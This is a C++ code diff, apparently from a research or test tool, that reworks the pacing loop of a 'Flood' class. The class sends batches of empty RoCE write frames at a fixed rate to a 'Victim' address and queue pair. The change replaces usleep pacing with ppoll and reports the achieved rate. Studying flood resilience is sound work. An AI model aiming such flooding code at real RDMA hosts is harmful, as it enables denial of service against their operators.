@@ -8,8 +8,8 @@
 // shall keep at least half of that.
 #include <arpa/inet.h>
 #include <netinet/in.h>
+#include <poll.h>
 
-#include <atomic>
 #include <vector>
 
 #include "roce/socket/datagram_frame.hpp"
@@ -50,7 +50,7 @@ int bound_socket(const sockaddr_in& address) {
 struct Victim {
     char address[32] = "";
     std::uint32_t qpn = 0;
-    std::uint16_t port = 0; // 0: nobody, for now
+    std::uint16_t port = 0;
 };
 
 // Empty writes, each with another number, from a socket at FROM.
@@ -65,20 +65,18 @@ class Flood {
         }
     }
 
-    // Until FD is readable. Tells there when the first have left.
+    // Until FD is readable. Tells there when it begins.
     void run(int fd, const Victim& victim) {
         aim(victim);
         const double start = seconds_now();
         double sent = 0;
-        for (bool told = false; !is_readable(fd); told = true) {
+        bool is_ahead = false; // of the rate
+        for (bool told = false; !is_readable(fd, is_ahead ? kPause : timespec{}); told = true) {
             if (!told) {
                 tell(fd, 'f');
             }
-            if (sent <= (seconds_now() - start) * kPacketsPerSecond) {
-                sent += std::max(0, sendmmsg(fd_, messages_.data(), kBatch, MSG_DONTWAIT));
-            } else {
-                usleep(100);
-            }
+            is_ahead = sent > (seconds_now() - start) * kPacketsPerSecond;
+            sent += is_ahead ? 0 : std::max(0, sendmmsg(fd_, messages_.data(), kBatch, MSG_DONTWAIT));
         }
         tell(fd, sent / (seconds_now() - start));
     }
@@ -87,9 +85,12 @@ class Flood {
     static constexpr std::uint32_t kBatch = 64;
     static constexpr std::size_t kBytes = wire::Bth::kBytes + 16 + wire::kIcrcBytes;
 
-    static bool is_readable(int fd) {
-        char byte = 0;
-        return recv(fd, &byte, 1, MSG_PEEK | MSG_DONTWAIT) >= 0;
+    static constexpr timespec kPause{.tv_sec = 0, .tv_nsec = 100'000};
+
+    // Within PAUSE.
+    static bool is_readable(int fd, const timespec& pause) {
+        pollfd wanted{.fd = fd, .events = POLLIN, .revents = 0};
+        return ppoll(&wanted, 1, &pause, nullptr) == 1;
     }
     void aim(const Victim& victim) {
         to_ = address_of(victim.address, victim.port);
